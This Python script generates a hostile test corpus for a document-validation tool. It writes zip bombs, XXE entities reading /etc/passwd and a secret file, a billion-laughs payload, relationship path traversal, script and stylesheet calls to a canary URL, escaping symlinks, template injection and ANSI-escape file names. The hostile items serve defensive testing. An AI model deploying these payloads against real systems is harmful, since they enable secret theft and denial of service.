#!/usr/bin/env python3
"""Generate the hostile test corpus (deterministically) into a folder.

    python tests/hostile/make_corpus.py DEST [--canary-url http://127.0.0.1:PORT]

Layout written under DEST:

    outside/              files that must never be read (secret text, a secret picture)
    items/<key>/...       one folder per hostile item; ``jlt validate items/<key>`` is one run

Large files (zip bombs, a 21 MiB Markdown, 50,000 zip members) are generated here, never committed.
Everything is byte-for-byte reproducible for a given ``canary_url`` (fixed zip timestamps, seeded bytes).
The canary URL is where the tests listen: any connection to it is a leak.
"""

from __future__ import annotations

import argparse
import io
import os
import random
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import case_text  # noqa: E402

SECRET = "JLT-SECRET-7f3a9c-不应出现在任何输出中"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
REL_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
REL_STYLES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"
REL_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"


@dataclass
class Item:
    key: str  # folder name under items/
    what: str  # one line: what is hostile here
    files: list[str] = field(default_factory=list)  # submissions as jlt should report them (relative names)


# --------------------------------------------------------------------------- DOCX building blocks


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _para(text: str, *, bold: bool = False, style: str = "", raw: bool = False) -> str:
    ppr = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    rpr = "<w:rPr><w:b/></w:rPr>" if bold else ""
    body = text if raw else _esc(text)
    return f'<w:p>{ppr}<w:r>{rpr}<w:t xml:space="preserve">{body}</w:t></w:r></w:p>'


def picture_xml(rel_id: str, *, linked: bool = False, pic_id: int = 1) -> str:
    """An inline DrawingML picture; ``linked`` uses r:link (an external file) instead of r:embed."""
    attr = f'r:link="{rel_id}"' if linked else f'r:embed="{rel_id}"'
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="3000000" cy="2000000"/>'
        f'<wp:docPr id="{pic_id}" name="Picture {pic_id}"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<pic:nvPicPr><pic:cNvPr id="{pic_id}" name="p{pic_id}"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip {attr}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="2000000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def body_xml(title: str = case_text.TITLE, *, inject: dict[str, str] | None = None, repeat_body: int = 1) -> str:
    """The case's paragraphs as w:body content. ``inject`` maps a part name to raw XML added after its first paragraph."""
    inject = inject or {}
    parts: list[str] = []
    current = ""
    for kind, text in case_text.paragraphs(title):
        if kind == "title":
            parts.append(_para(text, bold=True, style="Title"))
        elif kind == "meta":
            parts.append(_para(text))
        elif kind == "heading":
            current = text[2:]
            parts.append(_para(text, bold=True, style="Heading1"))
        else:
            for _ in range(repeat_body):
                parts.append(_para(text))
            if current in inject:
                parts.append(inject.pop(current))
    return "".join(parts)


def document_xml(body: str, *, prolog: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"{prolog}"
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}'
        '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>'
    )


STYLES_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    f'<w:styles xmlns:w="{W_NS}">'
    '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Title"><w:name w:val="Title"/><w:basedOn w:val="Normal"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/><w:basedOn w:val="Normal"/>'
    '<w:pPr><w:outlineLvl w:val="0"/></w:pPr></w:style>'
    "</w:styles>"
)


def content_types(main: str = CT_DOCX, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="jpeg" ContentType="image/jpeg"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        '<Override PartName="/word/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>'
        f"{extra}</Types>"
    )


ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{REL_DOC}" Target="word/document.xml"/></Relationships>'
)


def document_rels(extra: list[tuple[str, str, str, bool]] = ()) -> str:
    """Relationships of document.xml; ``extra`` is (id, type, target, external)."""
    rels = [f'<Relationship Id="rIdStyles" Type="{REL_STYLES}" Target="styles.xml"/>']
    for rid, rtype, target, external in extra:
        mode = ' TargetMode="External"' if external else ""
        rels.append(f'<Relationship Id="{rid}" Type="{rtype}" Target="{_esc(target)}"{mode}/>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rels)
        + "</Relationships>"
    )


def zip_bytes(members: list[tuple[str, bytes | str]], *, compress: bool = True) -> bytes:
    """A zip with fixed timestamps (deterministic)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED if compress and name != "mimetype" else zipfile.ZIP_STORED
            zf.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def docx_bytes(
    body: str | None = None,
    *,
    document: str | None = None,
    rels: list[tuple[str, str, str, bool]] = (),
    media: dict[str, bytes] | None = None,
    main_type: str = CT_DOCX,
    extra_members: list[tuple[str, bytes | str]] = (),
    styles: str = STYLES_XML,
) -> bytes:
    doc = document if document is not None else document_xml(body if body is not None else body_xml())
    members: list[tuple[str, bytes | str]] = [
        ("[Content_Types].xml", content_types(main_type)),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", doc),
        ("word/_rels/document.xml.rels", document_rels(list(rels))),
        ("word/styles.xml", styles),
    ]
    for name, data in (media or {}).items():
        members.append((f"word/media/{name}", data))
    members += list(extra_members)
    return zip_bytes(members)


def valid_docx(title: str = case_text.TITLE) -> bytes:
    return docx_bytes(body_xml(title))


# --------------------------------------------------------------------------- raw zip writing (bombs)


def _dos_time() -> tuple[int, int]:
    y, mo, d, h, mi, s = ZIP_TIME
    return (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 4) | d


def raw_zip(entries: list[tuple[str, bytes, int, int, int, int]]) -> bytes:
    """Hand-written zip: (name, payload, method, crc, declared_size, declared_compressed) per entry.

    Lets a header lie: ``declared_size`` is what both headers claim, whatever ``payload`` inflates to.
    """
    t, d = _dos_time()
    out = bytearray()
    central = bytearray()
    for name, payload, method, crc, usize, csize in entries:
        fname = name.encode("utf-8")
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, t, d, crc, csize, usize, len(fname), 0)
        out += fname + payload
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, t, d, crc, csize, usize, len(fname), 0, 0, 0, 0,
            0, offset,
        )
        central += fname
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def _stored(name: str, data: bytes | str) -> tuple[str, bytes, int, int, int, int]:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return name, raw, 0, zlib.crc32(raw), len(raw), len(raw)


def bomb_member(name: str, inflated_mib: int, *, declared_size: int | None = None) -> tuple[str, bytes, int, int, int, int]:
    """A deflated XML member that inflates to ``inflated_mib`` MiB of text, built in milliseconds.

    After a full flush the deflate state is reset, so one compressed 1 MiB chunk can be repeated verbatim.
    """
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'.encode()
    )
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    chunk = b"A" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    rep = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    rep2 = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert rep == rep2  # the trick holds
    last = c.compress(tail) + c.flush()
    payload = first + rep * inflated_mib + last
    crc = zlib.crc32(head)
    for _ in range(inflated_mib):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(tail) + inflated_mib * (1 << 20)
    if size >= 1 << 32:
        raise ValueError("bomb too large for a zip32 header")
    declared = size if declared_size is None else declared_size
    return name, payload, 8, crc, declared, len(payload)


def bomb_docx(inflated_mib: int, *, declared_size: int | None = None) -> bytes:
    return raw_zip(
        [
            _stored("[Content_Types].xml", content_types()),
            _stored("_rels/.rels", ROOT_RELS),
            _stored("word/_rels/document.xml.rels", document_rels()),
            _stored("word/styles.xml", STYLES_XML),
            bomb_member("word/document.xml", inflated_mib, declared_size=declared_size),
        ]
    )


def many_members_docx(count: int) -> bytes:
    """A real, readable DOCX padded with ``count`` empty parts."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in [
            ("[Content_Types].xml", content_types()),
            ("_rels/.rels", ROOT_RELS),
            ("word/document.xml", document_xml(body_xml())),
            ("word/_rels/document.xml.rels", document_rels()),
            ("word/styles.xml", STYLES_XML),
        ]:
            zf.writestr(zipfile.ZipInfo(name, ZIP_TIME), data)
        for i in range(count):
            zf.writestr(zipfile.ZipInfo(f"customXml/p{i:05d}.xml", ZIP_TIME), b"")
    return buf.getvalue()


# --------------------------------------------------------------------------- pictures


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int, height: int, *, rows: int | None = None) -> bytes:
    """An 8-bit RGB PNG whose IHDR says ``width``×``height``; IDAT holds ``rows`` rows (all of them if None)."""
    rows = height if rows is None else rows
    raw = (b"\x00" + b"\x80" * (width * 3)) * rows
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(raw, 9))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_garbage() -> bytes:
    """SOI and a JFIF marker, then noise: no frame header, no scan."""
    rnd = random.Random(7)
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + bytes(rnd.getrandbits(8) for _ in range(2000))


def jpeg_truncated() -> bytes:
    """A real JPEG cut in the middle of its scan: the header is fine, the pixels are not."""
    from PIL import Image as PILImage

    img = PILImage.new("RGB", (320, 240))
    rnd = random.Random(11)
    img.putdata([(rnd.randrange(256), rnd.randrange(256), rnd.randrange(256)) for _ in range(320 * 240)])
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=90)
    data = buf.getvalue()
    return data[: len(data) // 3]


def picture_docx(name: str, data: bytes) -> bytes:
    rel = ("rIdPic1", REL_IMAGE, f"media/{name}", False)
    return docx_bytes(body_xml(inject={"具体措施": picture_xml("rIdPic1")}), rels=[rel], media={name: data})


# --------------------------------------------------------------------------- OLE / CFB


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File (v3, 512-byte sectors) holding root-level streams.

    Streams are padded to 4096 bytes so none lives in the mini stream; enough for content sniffers
    and for tools that list the directory (olefile).
    """
    sector = 512
    names = list(streams)
    if len(names) > 3:
        raise ValueError("at most 3 streams (one directory sector)")
    data = {n: streams[n] + b"\x00" * max(0, 4096 - len(streams[n])) for n in names}
    chains: list[tuple[int, int]] = []  # (start sector, sector count)
    nxt = 2  # sector 0: FAT, sector 1: directory
    for n in names:
        count = -(-len(data[n]) // sector)
        chains.append((nxt, count))
        nxt += count
    total = nxt
    if total > 128:
        raise ValueError("streams too large for a one-sector FAT")
    fat = [0xFFFFFFFF] * 128
    fat[0] = 0xFFFFFFFD  # FATSECT
    fat[1] = 0xFFFFFFFE  # ENDOFCHAIN
    for start, count in chains:
        for s in range(start, start + count - 1):
            fat[s] = s + 1
        fat[start + count - 1] = 0xFFFFFFFE

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return (
            raw.ljust(64, b"\x00")
            + struct.pack("<HBB", len(raw), kind, 1)  # name length, type, colour (black)
            + struct.pack("<III", left, right, child)
            + b"\x00" * 16  # CLSID
            + b"\x00" * 4  # state bits
            + b"\x00" * 16  # created, modified
            + struct.pack("<IQ", start, size)
        )

    nostream = 0xFFFFFFFF
    dir_entries = [entry("Root Entry", 5, nostream, nostream, 1 if names else nostream, 0xFFFFFFFE, 0)]
    for i, n in enumerate(names):
        right = i + 2 if i + 1 < len(names) else nostream
        start, _ = chains[i]
        dir_entries.append(entry(n, 2, nostream, right, nostream, start, len(streams[n])))
    while len(dir_entries) < 4:
        dir_entries.append(b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", nostream, nostream, nostream)
                           + b"\x00" * 36 + struct.pack("<IQ", 0, 0))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", 0xFFFFFFFF) * 108
    )
    assert len(header) == 512, len(header)
    out = bytearray(header)
    out += struct.pack("<128I", *fat)
    out += b"".join(dir_entries)
    for n in names:
        blob = data[n]
        out += blob + b"\x00" * (-len(blob) % sector)
    assert len(out) == sector * (total + 1)
    return bytes(out)


def encrypted_ooxml() -> bytes:
    rnd = random.Random(3)
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<?xml version=\"1.0\"?><encryption/>"
    package = struct.pack("<Q", 20000) + bytes(rnd.getrandbits(8) for _ in range(6000))
    return cfb({"EncryptionInfo": info, "EncryptedPackage": package})


def legacy_doc() -> bytes:
    rnd = random.Random(5)
    word = b"\xec\xa5" + bytes(rnd.getrandbits(8) for _ in range(3000))  # wIdent of a Word FIB
    return cfb({"WordDocument": word, "1Table": bytes(4096)})


# --------------------------------------------------------------------------- other formats


def fake_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def odt_bytes() -> bytes:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:text>'
        + "".join(f"<text:p>{_esc(t)}</text:p>" for _, t in case_text.paragraphs())
        + "</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return zip_bytes(
        [("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", content),
         ("META-INF/manifest.xml", manifest)]
    )


def big_markdown(target_bytes: int) -> bytes:
    """A case whose parts repeat until the file reaches ``target_bytes``."""
    base = case_text.markdown().encode("utf-8")
    filler = ("".join(case_text.SECTIONS[1][1]) + "\n\n").encode("utf-8")
    head, _, rest = base.partition("## 三、".encode("utf-8"))
    need = max(0, target_bytes - len(base))
    return head + filler * (need // len(filler) + 1) + "## 三、".encode("utf-8") + rest


# --------------------------------------------------------------------------- the corpus


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def build_corpus(dest: Path, canary_url: str = "http://127.0.0.1:9") -> dict[str, Item]:
    """Write every item under ``dest``; returns the items by key."""
    dest = Path(dest)
    outside = dest / "outside"
    items_dir = dest / "items"
    _write(outside / "secret.txt", SECRET + "\n")
    _write(outside / "secret.md", case_text.markdown(extra_paragraphs={"基本情况": [SECRET]}))
    _write(outside / "secret.png", png(4, 4))
    _write(outside / "sub" / "secret.docx", valid_docx(case_text.TITLE + SECRET))
    secret_abs = (outside / "secret.txt").resolve()
    canary = canary_url.rstrip("/")
    items: dict[str, Item] = {}

    def add(key: str, what: str, files: dict[str, bytes | str]) -> Item:
        for name, data in files.items():
            _write(items_dir / key / name, data)
        item = Item(key, what, sorted(files))
        items[key] = item
        return item

    # controls: the base case must be clean in both formats, or every comparison is meaningless
    add("control-docx", "the base case as DOCX (no hostile part)", {"case.docx": valid_docx()})
    add("control-md", "the base case as Markdown (no hostile part)", {"case.md": case_text.markdown()})

    # archives
    add("zip-bomb", "word/document.xml inflates to 2 GiB (honest sizes)", {"bomb.docx": bomb_docx(2048)})
    add("zip-bomb-lying", "2 GiB bomb whose headers claim 5,000 bytes", {"bomb.docx": bomb_docx(2048, declared_size=5000)})
    add("zip-many-members", "a DOCX with 50,000 zip members", {"many.docx": many_members_docx(50_000)})
    cut = valid_docx()
    add("truncated-docx", "the first 60% of a valid DOCX", {"cut.docx": cut[: len(cut) * 6 // 10]})
    add("random-docx", "64 KiB of random bytes named .docx",
        {"random.docx": bytes(random.Random(1).getrandbits(8) for _ in range(65536))})
    add("zip-no-document", "a zip with no word/document.xml",
        {"nodoc.docx": zip_bytes([("readme.txt", "not a document"), ("word/other.xml", "<x/>")])})

    # XML
    xxe_file = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret_abs}"><!ENTITY pw SYSTEM "file:///etc/passwd">]>\n'
    body = body_xml(inject={"基本情况": _para("外部实体：&xxe;&pw;", raw=True)})
    add("xxe-file", "external entities to a secret file and /etc/passwd",
        {"xxe.docx": docx_bytes(document=document_xml(body, prolog=xxe_file))})
    xxe_net = (
        f'<!DOCTYPE w:document SYSTEM "{canary}/dtd" [<!ENTITY % remote SYSTEM "{canary}/param">%remote;'
        f'<!ENTITY net SYSTEM "{canary}/entity">]>\n'
    )
    body = body_xml(inject={"基本情况": _para("网络实体：&net;", raw=True)})
    add("xxe-network", "external DTD, parameter entity and entity on http://127.0.0.1",
        {"xxe-net.docx": docx_bytes(document=document_xml(body, prolog=xxe_net))})
    lol = "".join(f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10))
    laughs = f'<!DOCTYPE w:document [<!ENTITY lol0 "lol">{lol}]>\n'
    body = body_xml(inject={"基本情况": _para("&lol9;", raw=True)})
    add("billion-laughs", "nested entities expanding to 10^9 'lol'",
        {"laughs.docx": docx_bytes(document=document_xml(body, prolog=laughs))})
    xxe_styles = STYLES_XML.replace("<w:styles ", f'<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file://{secret_abs}">]>\n<w:styles ', 1)
    xxe_styles = xxe_styles.replace('<w:name w:val="Title"/>', '<w:name w:val="Title&xxe;"/>')
    add("xxe-styles", "external entity in word/styles.xml", {"xxe-styles.docx": docx_bytes(styles=xxe_styles)})

    # pictures
    add("png-huge", "a 50000x50000 PNG (a few KB) inside a DOCX", {"huge-png.docx": picture_docx("image1.png", png(50000, 50000, rows=2))})
    add("jpeg-garbage", "a JPEG with no frame header, only noise", {"bad-jpeg.docx": picture_docx("image1.jpeg", jpeg_garbage())})
    add("jpeg-truncated", "a JPEG cut in the middle of its scan", {"cut-jpeg.docx": picture_docx("image1.jpeg", jpeg_truncated())})
    linked = body_xml(inject={"具体措施": picture_xml("rIdLink1", linked=True, pic_id=1) + picture_xml("rIdLink2", linked=True, pic_id=2)})
    add("linked-picture", "pictures linked (not embedded) to http://127.0.0.1 and to a secret file",
        {"linked.docx": docx_bytes(linked, rels=[("rIdLink1", REL_IMAGE, f"{canary}/linked.png", True),
                                                  ("rIdLink2", REL_IMAGE, (outside / "secret.png").resolve().as_uri(), True)])})

    traversal = body_xml(inject={"具体措施": picture_xml("rIdUp1", pic_id=1) + picture_xml("rIdUp2", pic_id=2)
                                 + picture_xml("rIdMissing", pic_id=3)})
    add("docx-rel-traversal", "embedded pictures whose targets climb out of the package (../../, /etc/passwd)",
        {"traversal.docx": docx_bytes(traversal, rels=[("rIdUp1", REL_IMAGE, "../../../../outside/secret.png", False),
                                                        ("rIdUp2", REL_IMAGE, "/../../../../../etc/passwd", False)])})
    big = png(6300, 6300)
    add("png-big-allowed", "a 6300x6300 PNG: under the pixel limit, 119 MB once decoded",
        {"big-png.docx": picture_docx("image1.png", big)})
    five = body_xml(inject={"具体措施": "".join(picture_xml(f"rIdP{i}", pic_id=i) for i in range(1, 6))})
    add("png-big-five", "five 6300x6300 PNGs in one case (build must not hold them all decoded)",
        {"five-png.docx": docx_bytes(five, rels=[(f"rIdP{i}", REL_IMAGE, f"media/image{i}.png", False) for i in range(1, 6)],
                                     media={f"image{i}.png": big for i in range(1, 6)})})

    # types by content
    add("pdf-as-docx", "a PDF renamed .docx", {"report.docx": fake_pdf()})
    add("ole-doc-as-docx", "a legacy Word 97 (OLE) file renamed .docx", {"old.docx": legacy_doc()})
    add("encrypted-ooxml", "a password-protected DOCX (OLE with EncryptionInfo/EncryptedPackage)", {"locked.docx": encrypted_ooxml()})
    vba = cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
               "dir": bytes(4096)})
    add("docm-macros", "a macro-enabled document with vbaProject.bin",
        {"macro.docm": docx_bytes(body_xml(), main_type=CT_DOCM, rels=[("rIdVba", REL_VBA, "vbaProject.bin", False)],
                                  extra_members=[("word/vbaProject.bin", vba)])})
    add("odt", "an OpenDocument text", {"case.odt": odt_bytes()})
    add("empty", "a 0-byte .docx", {"empty.docx": b""})
    (items_dir / "dir-named-docx" / "x.docx").mkdir(parents=True, exist_ok=True)
    _write(items_dir / "dir-named-docx" / "x.docx" / "inner.txt", "not a submission")
    items["dir-named-docx"] = Item("dir-named-docx", "a directory named x.docx", ["x.docx"])

    # encodings and sizes
    add("gbk-md", "a Markdown case saved as GBK", {"gbk.md": case_text.markdown().encode("gbk")})
    add("utf16-md", "a Markdown case saved as UTF-16 with BOM", {"utf16.md": case_text.markdown().encode("utf-16")})
    add("md-21mib", "a 21 MiB Markdown file (over the 20 MB limit)", {"big.md": big_markdown(21 * 1024 * 1024)})
    add("md-19mb", "a 19 MB Markdown file (under the limit)", {"big.md": big_markdown(19_000_000)})
    add("docx-xml-150mb", "a 2 MB DOCX whose document.xml is 150 MB (ratio ~77, under the ratio limit)",
        {"huge-xml.docx": docx_bytes(body_xml(inject={"具体措施": _numbered_filler(150_000_000)}))})
    long_doc = valid_docx_many_pages(200)
    add("docx-200-pages", "a 200-page DOCX", {"long.docx": long_doc})

    # content that must stay text
    hostile_md = case_text.markdown(
        extra_paragraphs={
            "基本情况": [
                "<script>fetch('" + canary + "/script')</script>",
                '<iframe src="' + canary + '/iframe"></iframe>',
                '<div style="background:url(' + canary + '/css.png)">样式背景</div>',
                '<img src="' + canary + '/raw-img.png"> <img src="/etc/passwd">',
                '<link rel="stylesheet" href="' + canary + '/x.css"><style>@import url("' + canary + '/imp.css");</style>',
            ],
            "具体措施": [
                "[脚本链接](javascript:alert(1)) [文件链接](file:///etc/passwd) [网络链接](" + canary + "/link)",
                "![上级目录](../../outside/secret.png)",
                "![绝对路径](/etc/passwd)",
                f"![秘密图片]({(outside / 'secret.png').resolve()})",
                f"![网络图片]({canary}/img.png)",
                f"![文件协议]({(outside / 'secret.png').resolve().as_uri()})",
            ],
        }
    )
    add("md-html-links", "raw HTML, script, iframe, style url(), file:/http:/javascript: links, images outside",
        {"hostile.md": hostile_md})
    template_title = "{{ 7*7 }} 与 {% for x in range(3) %}{{ x }}{% endfor %} 模板语法"
    add("template-md", "Jinja syntax in the title and the text",
        {"template.md": case_text.markdown(title=template_title,
                                           extra_paragraphs={"工作成效": ["{{ config }} ${7*7} {% raw %}#{7*7}"]})})
    add("template-docx", "Jinja syntax in a DOCX title", {"template.docx": valid_docx(template_title)})

    # names
    add("name-space-chinese", "a file name with spaces and Chinese", {"南津街 社区学校 案例.docx": valid_docx()})
    add("name-leading-dash", "a file named -rf.docx", {"-rf.docx": valid_docx()})
    ansi_title = "\x1b[31m红色\x1b[0m标题\x07\x1b]0;pwned\x07" + case_text.TITLE
    add("name-ansi", "ANSI escapes and control characters in the name and the text",
        {"\x1b[31mred\x1b[0m.md": case_text.markdown(title=ansi_title,
                                                   extra_paragraphs={"基本情况": ["清屏\x1b[2J\x1b[H正文\x08\x7f。"]})})

    # paths
    link_dir = items_dir / "symlink-out"
    add("symlink-out", "symbolic links to a secret file and folder outside the input", {"good.md": case_text.markdown()})
    os.symlink(os.path.relpath(outside / "secret.md", link_dir), link_dir / "leak.md")
    os.symlink(os.path.relpath(outside / "secret.txt", link_dir), link_dir / "leak.txt")
    os.symlink(os.path.relpath(outside / "sub", link_dir), link_dir / "outdir")
    os.symlink("/etc/passwd", link_dir / "passwd.md")
    items["symlink-out"].files = ["good.md", "leak.md", "leak.txt", "passwd.md"]
    loop_dir = items_dir / "dir-loop"
    add("dir-loop", "directory symlinks that loop", {"good.md": case_text.markdown()})
    (loop_dir / "sub").mkdir()
    os.symlink("..", loop_dir / "sub" / "up")
    os.symlink(".", loop_dir / "self")
    os.symlink("loop-b", loop_dir / "loop-a.md")
    os.symlink("loop-a.md", loop_dir / "loop-b")
    items["dir-loop"].files = ["good.md", "loop-a.md"]
    pics_dir = items_dir / "md-image-links"
    add("md-image-links", "Markdown pictures through links out of the folder, a pipe, a pixel bomb",
        {"case.md": case_text.markdown(extra_paragraphs={"具体措施": [
            "![目录链接](pics/secret.png)", "![文件链接](img.png)", "![管道](pipe.png)", "![像素炸弹](bomb.png)",
            "![不存在](missing.png)"]})})
    os.symlink(os.path.relpath(outside, pics_dir), pics_dir / "pics")
    os.symlink(os.path.relpath(outside / "secret.png", pics_dir), pics_dir / "img.png")
    os.mkfifo(pics_dir / "pipe.png")
    _write(pics_dir / "bomb.png", png(50000, 50000, rows=2))
    add("md-image-repeat", "one 4000x3000 photo referenced 400 times (memory and work must not scale with references)",
        {"case.md": case_text.markdown(extra_paragraphs={"具体措施": ["![照片](photo.png)" * 400]}),
         "photo.png": png(4000, 3000)})
    items["md-image-repeat"].files = ["case.md"]
    fifo_dir = items_dir / "fifo"
    add("fifo", "a named pipe called pipe.md (reading it would block forever)", {"good.md": case_text.markdown()})
    os.mkfifo(fifo_dir / "pipe.md")
    os.mkfifo(fifo_dir / "noext")
    items["fifo"].files = ["good.md", "pipe.md"]
    return items


def _numbered_filler(target_bytes: int) -> str:
    """Body paragraphs, each with its own number so deflate cannot squeeze them like a bomb (ratio < 100)."""
    paragraphs = [t for k, t in case_text.paragraphs() if k == "body"]
    out: list[str] = []
    size = n = 0
    while size < target_bytes:
        para = _para(f"{n}：{paragraphs[n % len(paragraphs)]}")
        out.append(para)
        size += len(para.encode("utf-8"))
        n += 1
    return "".join(out)


def valid_docx_many_pages(pages: int) -> bytes:
    """The base case with every body paragraph repeated so the document runs to about ``pages`` A4 pages."""
    # a page of 仿宋 三号 holds ~620 characters; each repetition of the ~10 body paragraphs adds ~900
    return docx_bytes(body_xml(repeat_body=max(1, pages * 7 // 10)))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("dest", type=Path)
    parser.add_argument("--canary-url", default="http://127.0.0.1:9")
    args = parser.parse_args(argv)
